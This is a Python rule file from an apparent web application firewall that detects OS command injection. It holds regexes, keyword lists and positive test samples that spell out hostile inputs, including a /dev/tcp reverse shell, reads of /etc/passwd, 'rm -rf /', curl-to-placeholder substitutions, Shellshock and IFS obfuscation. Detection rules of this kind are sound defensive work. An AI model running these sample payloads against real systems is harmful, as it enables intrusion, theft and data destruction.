"""PURE. Injection of operating system commands."""

from __future__ import annotations

from lbproxy.waf.rule import Rule, View, Zone

__all__ = ["COMMANDS"]

_SHELL = View.SHELL
_END = r"(?:$| ?[;|&`)#<>])"
_COMMAND = (
    r"(?:(?:/?(?:usr/|local/)?s?bin/)?(?:busybox )?(?:(?:cat|tac|nl|more|less|head|tail|od|xxd"
    r"|strings|base64"
    r"|rev"
    r"|sort|cut|grep|awk|sed|file|stat) (?:-[\w-]+ (?:\d+ )?)?[^ \n]*[/.?*]"
    rf"|(?:id|whoami|pwd|uname|hostname|env|printenv|ifconfig|ipconfig|netstat|ps|df"
    rf"|tasklist|systeminfo|ver|dir|ls|sh|bash|zsh|ksh|dash){_END}"
    r"|(?:uname|ps|ls|id|netstat|df|ifconfig|dir|date|hostname|env) -?[-/][\w-]+|ls [/~.]"
    r"|dir \w?:?\\?"
    r"|(?:wget|curl|lynx|fetch|ftp|tftp|scp|ssh|telnet) [-\w]*[ \w]*(?:-|http|ftp|//|[\w-]+\.|\$"
    r"|\d)"
    r"|(?:nc|ncat|netcat|socat|openssl) -?[\w]|ping6? (?:-\w|\d|[\w-]+\.)|sleep \d"
    r"|timeout (?:/t )?\d"
    r"|(?:rm|cp|mv|chmod|chown|kill|mkdir|touch|ln|tar|dd|chattr) (?:-|/|\+|\d|\w+=|[^ \n]+[/.])"
    r"|(?:bash|sh|zsh|ksh|dash|python[\d.]*|perl|ruby|php|node|lua) -\w|(?:nslookup|dig"
    r"|host) [\w$-]"
    r"|echo [^\n]|printf [^\n]|find [/.]|net (?:user|localgroup|view|share)"
    r"|type [\w:]*\\?[^ \n]*\.\w"
    r"|(?:cmd|powershell|pwsh)(?:\.exe)? ?[/-]|crontab -|useradd|passwd|reg (?:add|query)|ip a"
    r"|export \w+=|exec [\w/]|eval [\w$]|certutil|bitsadmin|wmic|mshta|rundll32|regsvr32|nohup))"
)

COMMANDS: tuple[Rule, ...] = (
    Rule(
        932100,
        "command",
        "command after a separator of the shell",
        rf"^[^ \n]* ?(?:;|\|\|?|&&?|\$\(|<\(|>\() ?{_COMMAND}"
        r"|^[^ \n]*(?:;|\|\|?|&&?|\$\()(?:date|last|who|users|groups|set|mount)\)?$"
        rf"|^(?:[^ \n]*(?:[^ \na-z:,(] )?`|`) ?{_COMMAND}[^`\n]*(?:$|`(?:$|[^ \n]))",
        (";", "|", "&", "`", "$(", "<(", ">("),
        ("8.8.8.8; cat /etc/passwd", "x|id", "a && whoami", "$(curl x.example)", "`id`"),
        ("cats & dogs", "tea; biscuits", "a|b", "R&D date range", "id;name", "try `ls -la` here"),
        _SHELL,
    ),
    Rule(
        932110,
        "command",
        "command line of an attack",
        r"\b(?:cat|head|tail|more|less|nl|tac|vi|nano) (?:-\w+ )?/?(?:etc/(?:passwd|shadow|hosts"
        r"|group)|proc/)"
        r"|/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat) (?:-\w+ )*-?[elvnp]+ |\bmkfifo /|\bbash -i\b"
        r"|/bin/(?:ba|z|k|c|da)?sh -[ci]|\brm -rf? /(?:\*| |$)|(?:^|[;|`(] ?)rm -rf? /\w"
        r"|\bpowershell(?:\.exe)? -(?:enc?"
        r"|e |nop|w"
        r"|c |ep|exec)|\bcmd(?:\.exe)? ?/[ck] |certutil(?:\.exe)? -urlcache|bitsadmin /transfer"
        r"|invoke-expression|\biex ?\( ?new|downloadstring ?\(|wget http[^ \n]+ ?(?:-o|;|&|\|)"
        r"|\bpython[\d.]* -c import|\bperl -e |\bchmod (?:\+x|777) "
        r"|(?:^|[;|`(] ?)curl [^|\n]*\| ?(?:ba)?sh$"
        r"|\bnslookup [\w.-]*(?:oast|interact|burp|dnslog)|\.(?:oast|interactsh|dnslog|ceye)\.\w+"
        r"|burpcollaborator|--(?:checkpoint-action|use-compress-program|upload-pack|pre-invoke)="
        r"|^-{1,2}o? ?proxycommand\b"
        r"|^--?(?:o|out\w*|output[\w-]*|log-?file|pid-?file|dump[\w-]*)[= ]"
        r"/(?:etc|root|boot|usr/s?bin|var/(?:www|spool))/"
        r"|(?:\$0|\bsh) ?<<< ?\w|(?:;\w{1,9}=[^ ;\n]{1,20}){2,}; ?\$\w",
        *(
            (
                *(
                    "/etc/",
                    "etc/",
                    "proc/",
                    "/dev/",
                    "nc",
                    "netcat",
                    "mkfifo",
                    "bash",
                    "sh -",
                    "rm -",
                ),
                *("powershell", "cmd", "certutil", "bitsadmin", "invoke-", "iex", "downloadstring"),
                *("wget", "python", "perl", "chmod", "curl", "oast", "interact", "burp", "dnslog"),
                *("ceye", "-", "proxycommand", "<<<", ";$", "; $"),
            ),
        ),
        (
            *("bash -i >& /dev/tcp/1.2.3.4/80", "cat /etc/passwd", "rm -rf /", "cmd.exe /c dir"),
            *("a photo; rm -rf /srv/www", "--output=/etc/cron.d/x"),
        ),
        (
            *("concatenate /etc", "the bash shell", "#!/bin/bash", "RUN a && rm -rf /var/cache/*"),
            *("Install it: curl https://a.example/i.sh | sh", "--config=/etc/app/app.yaml"),
        ),
        _SHELL,
    ),
    Rule(
        932120,
        "command",
        "separator or variable that hides a command",
        r"\$\{?ifs\b|\{(?:cat|ls|echo|curl|wget|ping|nc|bash|sh),[^ \n}]*\}|\{id,-\w+\}"
        r"|\$\{(?:path|home"
        r"|shell|pwd)"
        r":\d|\$\{?hostname\}?[.`]|\$\( ?(?:whoami|id|hostname|uname|cat|curl|wget|nslookup|sleep"
        r"|ping)\b"
        r"|\$\(\(\d+ ?[*+] ?\d+\)\)|%comspec%|\bwh\$@oami|/\?{2,}/|/b[i?][n?]/[\w?]*\?"
        r"|`(?:whoami|id|hostname|uname -a|sleep \d+|curl [^`\n]*\$|nslookup [^`\n]*)`",
        ("$", "{", "%", "/?", "/b", "`", "?"),
        ("cat${IFS}/etc/x", "{cat,/x}", "/???/c?t", "$(whoami)"),
        ("${HOME}/bin", "{a,b}", "what? /why?/"),
        View.TEXT,
    ),
    Rule(
        932125,
        "command",
        "command after a host, on a second line",
        r"^(?:(?:[\w-]+\.)+\w+)? (?:(?:id|whoami|hostname|uname(?: -a)?)$|(?:/usr)?/bin/\w+"
        r"|(?:cat|head|tail) /|(?:curl|wget) [^ \n]+[.:]|(?:ping|sleep) (?:-|\d)|ls -)",
        (" ",),
        ("\nid", "127.0.0.1\ncat /etc/hosts", "a.example\r\nsleep 5"),
        ("your id", "example.com has an id", "curl a.example", "v1.2 sleep well"),
        View.TEXT,
        (Zone.ARGS, Zone.COOKIES),
    ),
    Rule(
        932130,
        "command",
        "function in an environment variable (Shellshock)",
        r"^\(\) ?\{",
        ("() {", "(){"),
        ("() { :;}; /bin/id",),
        ("f() { return }",),
        View.TEXT,
    ),
    Rule(
        932140,
        "command",
        "server-side file upload of a script",
        r"^filename=[^\n]*\.(?:php\d?|phtml|phar|pht|jspx?|jspf|aspx?|ashx|asmx|cer|cfm|cgi|pl|sh"
        r"|exe"
        r"|bat|ps1|htaccess|user\.ini)\.?(?:[;: .]|%00|$|::)|^filename=[^\n]*(?:\.\./|\.\.\\)",
        ("filename=",),
        ("filename=shell.php", "filename=a.jsp;.jpg", "filename=../../x"),
        ("filename=photo.jpg", "filename=php.pdf"),
        View.TEXT,
    ),
)
